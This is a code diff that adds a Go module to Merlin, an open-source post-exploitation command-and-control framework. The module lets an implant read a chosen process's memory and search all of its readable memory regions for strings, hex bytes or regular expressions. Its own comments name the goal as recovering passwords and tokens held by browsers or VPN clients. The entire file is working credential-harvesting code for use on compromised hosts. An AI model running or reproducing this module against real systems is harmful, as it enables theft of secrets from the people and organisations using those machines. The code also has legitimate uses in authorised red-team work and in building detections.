@@ -0,0 +1,263 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"bytes"
+	"encoding/hex"
+	"fmt"
+	"regexp"
+	"strconv"
+	"strings"
+	"unicode/utf16"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+)
+
+const (
+	// maxMemoryRead is the most bytes the memory readproc command returns
+	maxMemoryRead = 1 << 20
+	// memorySearchChunk is how much of a region is read at once when searching
+	memorySearchChunk = 1 << 20
+	// memorySearchOverlap is how far each chunk overlaps the previous so a match across chunks isn't missed
+	memorySearchOverlap = 4096
+	// defaultMemoryContext is the number of bytes before and after a match that are returned with it
+	defaultMemoryContext = 32
+	// defaultMemoryMatches is the most matches a search returns if a limit isn't provided
+	defaultMemoryMatches = 50
+)
+
+// memoryRegion is a range of a process's virtual memory that can be read
+type memoryRegion struct {
+	Start uint64
+	End   uint64
+	Perms string
+	Path  string
+}
+
+// processMemory reads another process's virtual memory
+type processMemory interface {
+	// Regions returns the process's readable memory regions
+	Regions() ([]memoryRegion, error)
+	// ReadAt reads the process's memory at the address
+	ReadAt(data []byte, address uint64) (int, error)
+	// Close releases the handle to the process
+	Close() error
+}
+
+// procMemory reads a range of another process's memory, or searches all of its readable memory for a pattern such as
+// a password or token held by a browser or VPN client. Patterns are a string, searched for as ASCII and UTF-16LE, hex
+// bytes prefixed with hex:, or a regular expression prefixed with re:
+// memory readproc <pid> <address> <length>
+// memory search <pid> <pattern> [context bytes] [max matches]
+func procMemory(args []string) (results jobs.Results) {
+	if len(args) < 3 {
+		results.Stderr = fmt.Sprintf("the memory %s command requires a process ID and more arguments", args[0])
+		return
+	}
+	pid, err := strconv.Atoi(args[1])
+	if err != nil {
+		results.Stderr = fmt.Sprintf("%s is not a valid process ID", args[1])
+		return
+	}
+
+	switch strings.ToLower(args[0]) {
+	case "readproc":
+		if len(args) < 4 {
+			results.Stderr = "the memory readproc command requires a process ID, an address, and a length"
+			return
+		}
+		address, e := strconv.ParseUint(strings.TrimPrefix(strings.ToLower(args[2]), "0x"), 16, 64)
+		if e != nil {
+			results.Stderr = fmt.Sprintf("%s is not a hex address", args[2])
+			return
+		}
+		length, e := strconv.Atoi(args[3])
+		if e != nil || length < 1 || length > maxMemoryRead {
+			results.Stderr = fmt.Sprintf("%s is not a length between 1 and %d", args[3], maxMemoryRead)
+			return
+		}
+		results.Stdout, err = readProcessMemory(pid, address, length)
+	case "search":
+		var search func([]byte) [][]int
+		if search, err = memoryPattern(args[2]); err != nil {
+			results.Stderr = err.Error()
+			return
+		}
+		context, limit := defaultMemoryContext, defaultMemoryMatches
+		if len(args) > 3 {
+			if context, err = strconv.Atoi(args[3]); err != nil || context < 0 || context > 4096 {
+				results.Stderr = fmt.Sprintf("%s is not a number of context bytes between 0 and 4096", args[3])
+				return
+			}
+		}
+		if len(args) > 4 {
+			if limit, err = strconv.Atoi(args[4]); err != nil || limit < 1 {
+				results.Stderr = fmt.Sprintf("%s is not a valid number of matches", args[4])
+				return
+			}
+		}
+		results.Stdout, err = searchProcessMemory(pid, search, context, limit)
+	}
+	if err != nil {
+		results.Stderr = err.Error()
+	}
+	return
+}
+
+// readProcessMemory returns a hex dump of the process's memory
+func readProcessMemory(pid int, address uint64, length int) (string, error) {
+	mem, err := openProcessMemory(pid)
+	if err != nil {
+		return "", err
+	}
+	defer mem.Close()
+	data := make([]byte, length)
+	n, err := mem.ReadAt(data, address)
+	if n == 0 {
+		return "", fmt.Errorf("there was an error reading %d bytes at 0x%x from process %d: %s", length, address, pid, err)
+	}
+	out := fmt.Sprintf("Read %d bytes at 0x%x from process %d\n", n, address, pid)
+	if err != nil {
+		out += fmt.Sprintf("the read stopped early: %s\n", err)
+	}
+	return out + dumpAt(address, data[:n]), nil
+}
+
+// searchProcessMemory searches the process's readable memory regions and returns the matches, up to the limit, with
+// the context bytes around them
+func searchProcessMemory(pid int, search func([]byte) [][]int, context, limit int) (string, error) {
+	mem, err := openProcessMemory(pid)
+	if err != nil {
+		return "", err
+	}
+	defer mem.Close()
+	regions, err := mem.Regions()
+	if err != nil {
+		return "", fmt.Errorf("there was an error listing the memory regions of process %d: %s", pid, err)
+	}
+
+	var out strings.Builder
+	var matches, unreadable int
+	var scanned uint64
+	buf := make([]byte, memorySearchChunk+memorySearchOverlap)
+	for _, region := range regions {
+		for offset := region.Start; offset < region.End && matches < limit; offset += memorySearchChunk {
+			size := region.End - offset
+			if size > uint64(len(buf)) {
+				size = uint64(len(buf))
+			}
+			n, _ := mem.ReadAt(buf[:size], offset)
+			if n == 0 {
+				unreadable++
+				break
+			}
+			scanned += uint64(n)
+			data := buf[:n]
+			for _, match := range search(data) {
+				// Matches in the overlap are found again with the next chunk
+				if match[0] >= memorySearchChunk || matches >= limit {
+					continue
+				}
+				matches++
+				start, end := match[0]-context, match[1]+context
+				if start < 0 {
+					start = 0
+				}
+				if end > len(data) {
+					end = len(data)
+				}
+				out.WriteString(fmt.Sprintf("Match at 0x%x (%d bytes) in %s %s %s\n", offset+uint64(match[0]), match[1]-match[0], region.Perms, fmt.Sprintf("0x%x-0x%x", region.Start, region.End), region.Path))
+				out.WriteString(dumpAt(offset+uint64(start), data[start:end]) + "\n")
+			}
+		}
+		if matches >= limit {
+			break
+		}
+	}
+	summary := fmt.Sprintf("Found %d matches in %d bytes of %d memory regions of process %d", matches, scanned, len(regions), pid)
+	if unreadable > 0 {
+		summary += fmt.Sprintf(", %d regions could not be read", unreadable)
+	}
+	if matches >= limit {
+		summary += ", the search stopped at the match limit"
+	}
+	return summary + "\n" + out.String(), nil
+}
+
+// memoryPattern returns a function that finds the pattern in memory: hex bytes prefixed with hex:, a regular
+// expression prefixed with re:, or a string that is searched for as ASCII and UTF-16LE
+func memoryPattern(pattern string) (func([]byte) [][]int, error) {
+	switch {
+	case strings.HasPrefix(pattern, "hex:"):
+		b, err := hex.DecodeString(strings.ReplaceAll(strings.TrimPrefix(pattern, "hex:"), " ", ""))
+		if err != nil || len(b) == 0 {
+			return nil, fmt.Errorf("%s is not a valid hex pattern", pattern)
+		}
+		return func(data []byte) [][]int { return indexAll(data, b) }, nil
+	case strings.HasPrefix(pattern, "re:"):
+		re, err := regexp.Compile(strings.TrimPrefix(pattern, "re:"))
+		if err != nil {
+			return nil, fmt.Errorf("there was an error compiling the regular expression: %s", err)
+		}
+		return func(data []byte) [][]int { return re.FindAllIndex(data, -1) }, nil
+	}
+	if pattern == "" {
+		return nil, fmt.Errorf("the search pattern is empty")
+	}
+	ascii := []byte(pattern)
+	var wide []byte
+	for _, r := range utf16.Encode([]rune(pattern)) {
+		wide = append(wide, byte(r), byte(r>>8))
+	}
+	return func(data []byte) [][]int { return append(indexAll(data, ascii), indexAll(data, wide)...) }, nil
+}
+
+// indexAll returns the start and end of every occurrence of the pattern in the data
+func indexAll(data, pattern []byte) (matches [][]int) {
+	for i := 0; ; {
+		j := bytes.Index(data[i:], pattern)
+		if j < 0 {
+			return
+		}
+		matches = append(matches, []int{i + j, i + j + len(pattern)})
+		i += j + 1
+	}
+}
+
+// dumpAt returns a hex dump of the data labeled with its address in memory
+func dumpAt(address uint64, data []byte) string {
+	var out strings.Builder
+	for i := 0; i < len(data); i += 16 {
+		line := data[i:]
+		if len(line) > 16 {
+			line = line[:16]
+		}
+		ascii := make([]byte, len(line))
+		for j, c := range line {
+			ascii[j] = '.'
+			if c >= 0x20 && c < 0x7f {
+				ascii[j] = c
+			}
+		}
+		out.WriteString(fmt.Sprintf("%016x  %-47s  |%s|\n", address+uint64(i), strings.TrimSpace(fmt.Sprintf("% x", line)), ascii))
+	}
+	return out.String()
+}